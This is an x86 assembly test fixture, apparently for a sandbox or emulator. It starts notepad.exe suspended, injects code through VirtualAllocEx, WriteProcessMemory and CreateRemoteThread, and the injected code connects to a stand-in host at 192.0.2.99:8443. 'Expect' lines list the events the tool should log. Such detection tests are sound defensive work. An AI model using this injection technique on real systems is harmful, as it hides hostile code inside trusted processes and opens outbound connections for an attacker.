; SPDX-License-Identifier: GPL-2.0-or-later
; A program is started suspended; code is put into it and runs there as a thread of its own.
; expect: exec C:\Windows\System32\notepad.exe notepad.exe
; expect: connect 192.0.2.99 8443
%include "way32.inc"
	sub esp, 0x100
	mov edi, esp
	push edi
	xor eax, eax
	mov ecx, 32
	rep stosd
	pop edi
	mov byte [edi], 0x44
	function "kernel32.dll", "CreateProcessA"
	lea ecx, [edi + 0x50]
	push ecx
	push edi
	push 0
	push 0
	push 4
	push 0
	push 0
	push 0
	text "notepad.exe"
	push 0
	call eax
	function "kernel32.dll", "VirtualAllocEx"
	push 0x40
	push 0x3000
	push 0x1000
	push 0
	push dword [edi + 0x50]
	call eax
	mov esi, eax
	function "kernel32.dll", "WriteProcessMemory"
	push 0
	push injected_end - injected
	call .here
.here:
	pop ecx
	add ecx, injected - .here
	push ecx
	push esi
	push dword [edi + 0x50]
	call eax
	function "kernel32.dll", "CreateRemoteThread"
	push 0
	push 0
	push ebp
	push esi
	push 0
	push 0
	push dword [edi + 0x50]
	call eax
	mov esi, eax
	function "kernel32.dll", "WaitForSingleObject"
	push 10000
	push esi
	call eax
	function "kernel32.dll", "ExitProcess"
	push 0
	call eax
injected:
	mov ebp, [esp + 4]
	sub esp, 0x200
	mov edi, esp
	function "ws2_32.dll", "WSAStartup"
	push edi
	push 0x202
	call eax
	function "ws2_32.dll", "socket"
	push 6
	push 1
	push 2
	call eax
	mov dword [edi], 0xfb200002
	mov dword [edi + 4], 0x630200c0
	mov esi, eax
	function "ws2_32.dll", "connect"
	push 16
	push edi
	push esi
	call eax
	add esp, 0x200
	ret 4
injected_end:
